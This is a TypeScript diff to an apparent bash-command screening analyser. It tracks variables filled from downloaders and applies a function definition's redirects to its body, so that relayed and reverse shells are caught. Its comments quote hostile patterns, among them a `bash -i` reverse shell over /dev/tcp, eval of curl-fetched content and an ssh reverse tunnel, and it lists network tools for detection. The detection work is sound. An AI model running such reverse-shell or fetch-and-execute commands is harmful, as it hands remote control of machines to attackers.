@@ -34,6 +34,13 @@ export interface Ctx {
 }
 
 
+/**
+ * Where a variable's value came from, kept beside it under a name no shell variable can have: only the commands that
+ * bring data in from elsewhere (downloaders, raw network tools), so a later reader of the variable is judged as if
+ * they piped into it, while `out=$(bash -c …); nc h p <<< "$out"` (a shell long finished) is no relayed shell.
+ */
+const FROM_KEY = '\0from:';
+
 /** Functions remembered per command (a call of one is screened as its body: `f(){ ssh "$@"; }; f -NR …`). */
 const MAX_FUNCTIONS = 64;
 const STATEMENT_TYPES = new Set(['command', 'pipeline', 'list', 'redirected_statement', 'subshell', 'compound_statement', 'if_statement', 'for_statement', 'while_statement', 'c_style_for_statement', 'case_statement', 'function_definition', 'negated_command', 'declaration_command', 'variable_assignment', 'unset_command']);
@@ -205,8 +212,12 @@ export class Run implements RunState {
       case 'function_definition': {
         const body = n.children.find((c) => c.field === 'body');
         const name = n.children.find((c) => c.field === 'name');
-        if (body && name && this.functions.size < MAX_FUNCTIONS) this.functions.set(ctx.layer.text.slice(name.start, name.end), ctx.layer.text.slice(body.start, body.end));
-        if (body) this.visit(body, { ...ctx, flags: [...ctx.flags, 'in_function'] });
+        // `f() { bash -i; } >& /dev/tcp/h/p 0>&1`: a definition's redirects apply to every run of its body (session 45).
+        const redirs = n.children.filter((c) => c.field === 'redirect');
+        const end = Math.max(body?.end ?? 0, ...redirs.map((r) => r.end));
+        if (body && name && this.functions.size < MAX_FUNCTIONS) this.functions.set(ctx.layer.text.slice(name.start, name.end), ctx.layer.text.slice(body.start, end));
+        const r = redirs.length ? this.evalRedirects(redirs, ctx) : undefined;
+        if (body) this.visit(body, { ...ctx, flags: [...ctx.flags, 'in_function'], redirects: r ? [...ctx.redirects, ...r.list] : ctx.redirects });
         return null;
       }
       case 'command_substitution': case 'process_substitution':
@@ -257,8 +268,11 @@ export class Run implements RunState {
   }
 
   wordEnv(ctx: Ctx, substNames: string[]): WordEnv {
+    // A variable set from a substitution (`x=$(curl …)`) carries the names of the commands that made it: reading it
+    // (`eval "$x"`, `bash <<< "$x"`) makes them feed the reader, as a pipe would (session 45).
+    const vars = { get: (k: string): string | undefined => { const from = ctx.vars.get(FROM_KEY + k); if (from) substNames.push(...from.split('\0')); return ctx.vars.get(k); } };
     return {
-      text: ctx.layer.text, vars: ctx.vars,
+      text: ctx.layer.text, vars,
       substOutput: (s) => { const o = this.substCache.get(s)?.out; return o ? o.toString('utf8') : null; },
       onSubst: (s) => { substNames.push(...this.visitSubst(s, ctx).names); },
     };
@@ -362,6 +376,8 @@ export class Run implements RunState {
       const substNames: string[] = [];
       const v = val ? evalWord(val, this.wordEnv(ctx, substNames)) : { value: '', exact: true };
       if (v.exact) ctx.vars.set(key, v.value); else ctx.vars.delete(key);
+      const remote = [...new Set(substNames)].filter((x) => REMOTE_SOURCES.has(x));
+      if (remote.length) ctx.vars.set(FROM_KEY + key, remote.join('\0')); else ctx.vars.delete(FROM_KEY + key);
       if (record) {
         emitCommand(this, { argv: [`${key}=${v.value}`], exact: [v.exact], nodes: [a], end: a.end, ctx, stdin: null, inputFrom: substNames, redirects: ctx.redirects, flags: ['assignment'] });
       }
@@ -407,6 +423,8 @@ export class Run implements RunState {
 const REPEAT_FACTOR = 5;
 
 const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c', 'axel', 'lftp', 'ftp', 'tftp', 'nc', 'ncat', 'netcat', 'socat']);
+/** Commands that bring data in from elsewhere: a variable set from one carries its name (FROM_KEY). */
+const REMOTE_SOURCES = new Set([...DOWNLOADERS, 'openssl', 'telnet']);
 
 /** Does bash word-split this word's value? (an unquoted expansion or substitution at its top level) */
 function splits(w: SNode): boolean {
